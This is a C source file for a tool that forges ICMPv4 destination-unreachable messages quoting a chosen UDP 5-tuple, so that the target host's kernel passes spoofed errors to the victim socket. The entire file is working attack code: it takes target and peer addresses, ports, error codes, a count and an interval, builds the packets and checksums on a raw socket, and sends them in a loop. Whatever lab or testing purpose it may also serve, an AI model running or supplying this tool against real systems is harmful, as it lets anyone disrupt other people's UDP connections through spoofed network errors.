/* icmp_forge.c: sends forged ICMPv4 destination-unreachable messages (RFC 792) that
 * quote a UDP datagram from SRC:SPORT to DST:DPORT, as a router would, so the kernel
 * hands the error to the UDP socket of that 5-tuple (RFC 1122 4.1.3.3). Needs a raw
 * socket: root, or CAP_NET_RAW in a network namespace of one's own (unshare -rn).
 * Usage: icmp_forge SRC SPORT DST DPORT CODE[,CODE...] COUNT INTERVAL_MS
 * Sends COUNT messages, cycling through the codes, INTERVAL_MS apart, to SRC (the
 * socket being attacked). Prints how many of each code were sent. */
#define _POSIX_C_SOURCE 200809L
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_CODES 16

/* RFC 1071 Internet checksum. */
static uint16_t csum(const uint8_t *p, size_t n)
{
    uint32_t s = 0;
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)p[i] << 8 | p[i + 1];
    if (n & 1)
        s += (uint32_t)p[n - 1] << 8;
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static long number(const char *s, long lo, long hi, const char *what)
{
    char *end;
    errno = 0;
    long v = strtol(s, &end, 10);
    if (errno || *end || end == s || v < lo || v > hi) {
        fprintf(stderr, "icmp_forge: bad %s: %s\n", what, s);
        exit(2);
    }
    return v;
}

int main(int argc, char **argv)
{
    if (argc != 8) {
        fprintf(stderr, "usage: icmp_forge SRC SPORT DST DPORT CODE[,CODE...] COUNT INTERVAL_MS\n");
        return 2;
    }
    struct in_addr src, dst;
    if (inet_pton(AF_INET, argv[1], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) {
        fprintf(stderr, "icmp_forge: SRC and DST are IPv4 addresses\n");
        return 2;
    }
    uint16_t sport = (uint16_t)number(argv[2], 1, 65535, "SPORT");
    uint16_t dport = (uint16_t)number(argv[4], 1, 65535, "DPORT");
    int codes[MAX_CODES], ncodes = 0;
    long sent[MAX_CODES] = { 0 };
    for (char *tok = strtok(argv[5], ","); tok && ncodes < MAX_CODES; tok = strtok(NULL, ","))
        codes[ncodes++] = (int)number(tok, 0, 15, "CODE");
    if (ncodes == 0)
        return 2;
    long count = number(argv[6], 1, 100000, "COUNT");
    long gap_ms = number(argv[7], 0, 10000, "INTERVAL_MS");

    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (fd < 0) {
        fprintf(stderr, "icmp_forge: raw socket: %s\n", strerror(errno));
        return 1;
    }

    /* ICMP header (8) + the quoted IPv4 header (20) + the first 8 bytes of the datagram:
     * its UDP header, which is all the kernel needs to find the socket. */
    uint8_t m[8 + 20 + 8];
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = src };
    for (long i = 0; i < count; i++) {
        int code = codes[i % ncodes];
        memset(m, 0, sizeof m);
        m[0] = 3; /* destination unreachable */
        m[1] = (uint8_t)code;
        uint8_t *ip = m + 8;
        ip[0] = 0x45; /* IPv4, 5 words */
        put16(ip + 2, 20 + 8 + 12);
        ip[8] = 64;
        ip[9] = IPPROTO_UDP;
        memcpy(ip + 12, &src, 4);
        memcpy(ip + 16, &dst, 4);
        put16(ip + 10, csum(ip, 20));
        uint8_t *udp = ip + 20;
        put16(udp, sport);
        put16(udp + 2, dport);
        put16(udp + 4, 8 + 12);
        put16(m + 2, csum(m, sizeof m));
        if (sendto(fd, m, sizeof m, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof m) {
            fprintf(stderr, "icmp_forge: sendto: %s\n", strerror(errno));
            close(fd);
            return 1;
        }
        sent[i % ncodes]++;
        struct timespec ts = { gap_ms / 1000, (gap_ms % 1000) * 1000000L };
        nanosleep(&ts, NULL);
    }
    close(fd);
    for (int k = 0; k < ncodes; k++)
        printf("code %d: %ld sent\n", codes[k], sent[k]);
    return 0;
}
